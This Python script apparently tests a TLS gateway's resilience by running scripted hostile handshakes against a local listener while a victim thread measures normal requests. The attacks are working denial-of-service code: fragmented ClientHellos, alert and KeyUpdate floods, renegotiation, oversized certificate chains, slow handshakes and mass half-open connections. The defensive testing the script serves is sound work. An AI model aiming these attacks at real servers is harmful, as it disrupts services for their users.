#!/usr/bin/env python3
"""Hostile TLS handshakes against a gateway listener, scripted with tlslite-ng (issue #15).

Runs one attack (the first argument) against 127.0.0.1:PORT while a victim thread sends normal
requests (curl with a workstation's client certificate, `GET /v1/whoami`) to VICTIM_PORT every
half second, and once more after the attack. Prints one JSON object:

- `attack`, `outcome` (`alert`: the server sent a fatal alert and closed; `closed`: it closed
  without an alert; `reset`; `open`: still open when the script stopped waiting; `answered`: the
  server went on with the handshake or the connection), `alert` (the alert's description name when
  one was read in the clear or decrypted), `seconds` (from the start of the attack to the outcome);
- attack-specific figures (`sent`, `connections`, `closedAtOnce`, ...);
- `victims`: each normal request's HTTP status and seconds, `victimAfter`: the one after the attack.

Nothing here is personal data; the certificates are the development PKI's.
"""
import argparse
import json
import select
import socket
import subprocess
import threading
import time

from tlslite import HandshakeSettings, TLSConnection, X509CertChain, parsePEMKey
from tlslite.constants import AlertDescription, AlertLevel, ContentType, KeyUpdateMessageType
from tlslite.errors import TLSAbruptCloseError, TLSLocalAlert, TLSRemoteAlert
from tlslite.messages import Message

parser = argparse.ArgumentParser()
parser.add_argument("attack")
parser.add_argument("port", type=int)
parser.add_argument("--victim-port", type=int, required=True)
parser.add_argument("--cafile", required=True)
parser.add_argument("--cert", required=True, help="PEM chain of a valid workstation certificate")
parser.add_argument("--key", required=True, help="its key, as SEC1 `EC PRIVATE KEY` PEM (tlslite reads that form)")
parser.add_argument("--victim-key", required=True, help="the same key as curl reads it")
parser.add_argument("--count", type=int, default=0, help="how many (alerts, messages, connections); 0: the attack's default")
parser.add_argument("--source", default="127.0.0.2", help="source address of the half-open connections")
arguments = parser.parse_args()

ALERT_NAMES = {value: name for name, value in vars(AlertDescription).items() if isinstance(value, int)}


def alert_record(level, description):
    return bytes([ContentType.alert, 3, 3, 0, 2, level, description])


def records(data):
    """The (content type, payload) of each whole record in `data`."""
    out, offset = [], 0
    while offset + 5 <= len(data):
        length = int.from_bytes(data[offset + 3:offset + 5], "big")
        out.append((data[offset], data[offset + 5:offset + 5 + length]))
        offset += 5 + length
    return out


def client_hello_bytes():
    """A real tlslite-ng TLS 1.3 ClientHello (one record), taken from a handshake run on a socket pair."""
    ours, theirs = socket.socketpair()
    ours.setblocking(False)
    connection = TLSConnection(ours)
    handshake = connection.handshakeClientCert(async_=True)
    next(handshake)  # sends the ClientHello, then wants to read
    theirs.settimeout(2)
    data = theirs.recv(65536)
    ours.close()
    theirs.close()
    return data


def read_until_close(sock, wait):
    """Reads raw bytes until the server closes or `wait` seconds pass: (bytes, outcome, seconds)."""
    started = time.monotonic()
    received = b""
    while time.monotonic() - started < wait:
        readable, _, _ = select.select([sock], [], [], 0.05)
        if not readable:
            continue
        try:
            chunk = sock.recv(65536)
        except ConnectionResetError:
            return received, "reset", time.monotonic() - started
        if not chunk:
            return received, "closed", time.monotonic() - started
        received += chunk
    return received, "open", time.monotonic() - started


def raw_outcome(received, outcome):
    """Names a fatal alert the server sent in the clear before it closed."""
    alerts = [payload for kind, payload in records(received) if kind == ContentType.alert and len(payload) == 2]
    if alerts and outcome in ("closed", "reset"):
        level = "fatal" if alerts[-1][0] == AlertLevel.fatal else "warning"
        return "alert", level + " " + ALERT_NAMES.get(alerts[-1][1], str(alerts[-1][1]))
    if any(kind == ContentType.handshake for kind, _ in records(received)):
        return "answered" if outcome == "open" else outcome, None
    return outcome, None


def workstation():
    chain = X509CertChain()
    chain.parsePemList(open(arguments.cert).read())
    key = parsePEMKey(open(arguments.key).read(), private=True, implementations=["python"])
    return chain, key


def tls_connection(version, certificate=True, port=None):
    sock = socket.create_connection(("127.0.0.1", port or arguments.port), timeout=15)
    connection = TLSConnection(sock)
    settings = HandshakeSettings()
    settings.minVersion = version
    settings.maxVersion = version
    chain, key = workstation() if certificate else (None, None)
    connection.handshakeClientCert(chain, key, settings=settings, alpn=[bytearray(b"http/1.1")])
    return connection, sock


def tls_outcome(error):
    if isinstance(error, TLSRemoteAlert):
        level = "fatal" if error.level == AlertLevel.fatal else "warning"
        return "alert", level + " " + ALERT_NAMES.get(error.description, str(error.description))
    if isinstance(error, (TLSAbruptCloseError, BrokenPipeError, ConnectionResetError)):
        return "closed", None
    if isinstance(error, socket.timeout):
        return "open", None
    return "error:" + type(error).__name__, None


def read_after(connection, wait=5.0):
    """Reads through TLS until the server alerts or closes: (outcome, alert)."""
    connection.sock.settimeout(wait)
    try:
        while True:
            data = connection.read()
            if not data:
                return "closed", None
    except Exception as error:  # the alert, the close or the timeout is the result
        return tls_outcome(error)


# The attacks. Each returns a dict with at least outcome, alert, seconds.

def fragmented(with_alerts):
    """The ClientHello in one-byte records; with_alerts: a warning alert before each of them."""
    hello = client_hello_bytes()
    payload = hello[5:]
    sock = socket.create_connection(("127.0.0.1", arguments.port))
    started = time.monotonic()
    sent = 0
    stream = b""
    for byte in payload:
        if with_alerts:
            stream += alert_record(AlertLevel.warning, AlertDescription.no_renegotiation)
            sent += 1
        stream += bytes([ContentType.handshake, 3, 1, 0, 1, byte])
    try:
        sock.sendall(stream)
    except (BrokenPipeError, ConnectionResetError):
        pass
    received, outcome, _ = read_until_close(sock, 12)
    server_hello = any(kind == ContentType.handshake for kind, _ in records(received))
    outcome, alert = raw_outcome(received, outcome)
    sock.close()
    return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started, "records": len(payload),
            "alertsSent": sent, "serverHello": server_hello}


def warning_alert_flood():
    """Many warning alerts before any handshake byte, then a ClientHello."""
    count = arguments.count or 10000
    sock = socket.create_connection(("127.0.0.1", arguments.port))
    started = time.monotonic()
    try:
        sock.sendall(alert_record(AlertLevel.warning, AlertDescription.no_renegotiation) * count + client_hello_bytes())
    except (BrokenPipeError, ConnectionResetError):
        pass
    received, outcome, _ = read_until_close(sock, 12)
    outcome, alert = raw_outcome(received, outcome)
    sock.close()
    return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started, "alertsSent": count}


def renegotiation():
    """TLS 1.2 with a valid certificate, then ClientHellos inside the session (renegotiation)."""
    count = arguments.count or 100
    connection, _ = tls_connection((3, 3))
    hello = client_hello_bytes()[5:]
    started = time.monotonic()
    sent = 0
    try:
        for _ in range(count):
            for _ in connection._sendMsg(Message(ContentType.handshake, bytearray(hello)), update_hashes=False):
                pass
            sent += 1
        connection.write(b"GET /v1/whoami HTTP/1.1\r\nHost: localhost\r\n\r\n")
    except Exception as error:
        outcome, alert = tls_outcome(error)
        return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started, "sent": sent}
    outcome, alert = read_after(connection)
    return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started, "sent": sent}


def tls13_client_hello_after_handshake():
    """TLS 1.3 (pupils' listener, no certificate), then a ClientHello inside the session."""
    connection, _ = tls_connection((3, 4), certificate=False)
    started = time.monotonic()
    hello = client_hello_bytes()[5:]
    try:
        for _ in connection._sendMsg(Message(ContentType.handshake, bytearray(hello)), update_hashes=False):
            pass
    except Exception as error:
        outcome, alert = tls_outcome(error)
        return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started}
    outcome, alert = read_after(connection)
    return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started}


def key_update_flood():
    """TLS 1.3 (pupils' listener, no certificate), then KeyUpdate(update_requested) messages."""
    count = arguments.count or 10000
    connection, _ = tls_connection((3, 4), certificate=False)
    started = time.monotonic()
    sent = 0
    try:
        for _ in range(count):
            for _ in connection.send_keyupdate_request(KeyUpdateMessageType.update_requested):
                pass
            sent += 1
    except Exception as error:
        # tlslite closes its socket when a write fails: the server had closed the connection
        outcome, alert = tls_outcome(error)
        outcome = "closed" if outcome.startswith("error:TLSClosed") else outcome
        return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started, "sent": sent}
    outcome, alert = read_after(connection)
    return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started, "sent": sent}


def long_chain():
    """TLS 1.2 with the valid leaf followed by `count` copies of its issuing CA's certificate."""
    count = arguments.count or 2000
    chain, key = workstation()
    chain.x509List = chain.x509List[:1] + chain.x509List[1:2] * count
    size = sum(len(certificate.bytes) for certificate in chain.x509List)
    sock = socket.create_connection(("127.0.0.1", arguments.port), timeout=15)
    connection = TLSConnection(sock)
    settings = HandshakeSettings()
    settings.minVersion = settings.maxVersion = (3, 3)
    started = time.monotonic()
    try:
        connection.handshakeClientCert(chain, key, settings=settings, alpn=[bytearray(b"http/1.1")])
    except Exception as error:
        outcome, alert = tls_outcome(error)
        return {"outcome": outcome, "alert": alert, "seconds": time.monotonic() - started, "certificates": len(chain.x509List),
                "bytes": size}
    outcome, alert = read_after(connection)
    return {"outcome": "answered" if outcome == "open" else outcome, "alert": alert, "seconds": time.monotonic() - started,
            "certificates": len(chain.x509List), "bytes": size}


def slow_handshake():
    """The ClientHello one byte a second."""
    hello = client_hello_bytes()
    sock = socket.create_connection(("127.0.0.1", arguments.port))
    started = time.monotonic()
    sent = 0
    outcome = "open"
    for byte in hello:
        try:
            sock.send(bytes([byte]))
            sent += 1
        except (BrokenPipeError, ConnectionResetError):
            outcome = "closed"
            break
        received, outcome, _ = read_until_close(sock, 1.0)
        if outcome != "open":
            break
    sock.close()
    return {"outcome": outcome, "alert": None, "seconds": time.monotonic() - started, "sent": sent}


def half_open():
    """`count` connections from one address, each with the first bytes of a ClientHello, held open."""
    count = arguments.count or 300
    hello = client_hello_bytes()
    started = time.monotonic()
    sockets = []
    for _ in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind((arguments.source, 0))
        sock.connect(("127.0.0.1", arguments.port))
        try:
            sock.send(hello[:10])
        except (BrokenPipeError, ConnectionResetError):
            pass
        sockets.append(sock)
    open_ = {sock: started for sock in sockets}
    closed_at = []
    while open_ and time.monotonic() - started < 20:
        readable, _, _ = select.select(list(open_), [], [], 0.1)
        for sock in readable:
            try:
                chunk = sock.recv(65536)
            except ConnectionResetError:
                chunk = b""
            if not chunk:
                closed_at.append(time.monotonic() - started)
                del open_[sock]
                sock.close()
    for sock in open_:
        sock.close()
    at_once = sum(1 for at in closed_at if at < 2)
    later = sorted(at for at in closed_at if at >= 2)
    return {"outcome": "closed" if not open_ else "open", "alert": None, "seconds": time.monotonic() - started,
            "connections": count, "closedAtOnce": at_once, "closedLater": len(later),
            "firstLaterClose": later[0] if later else None, "lastClose": max(closed_at) if closed_at else None}


ATTACKS = {
    "fragmented": lambda: fragmented(False),
    "fragmented-alerts": lambda: fragmented(True),
    "warning-alert-flood": warning_alert_flood,
    "renegotiation": renegotiation,
    "tls13-client-hello": tls13_client_hello_after_handshake,
    "key-update-flood": key_update_flood,
    "long-chain": long_chain,
    "slow-handshake": slow_handshake,
    "half-open": half_open,
}


def victim_request():
    started = time.monotonic()
    result = subprocess.run(
        ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10", "--cacert", arguments.cafile,
         "--cert", arguments.cert, "--key", arguments.victim_key, f"https://127.0.0.1:{arguments.victim_port}/v1/whoami"],
        capture_output=True, text=True)
    return {"http": result.stdout.strip(), "seconds": round(time.monotonic() - started, 3)}


victims = []
done = threading.Event()


def victim_loop():
    while not done.is_set():
        victims.append(victim_request())
        done.wait(0.5)


thread = threading.Thread(target=victim_loop)
thread.start()
try:
    report = ATTACKS[arguments.attack]()
finally:
    done.set()
    thread.join()
report["attack"] = arguments.attack
report["seconds"] = round(report["seconds"], 3)
report["victims"] = victims
report["victimAfter"] = victim_request()
print(json.dumps(report))
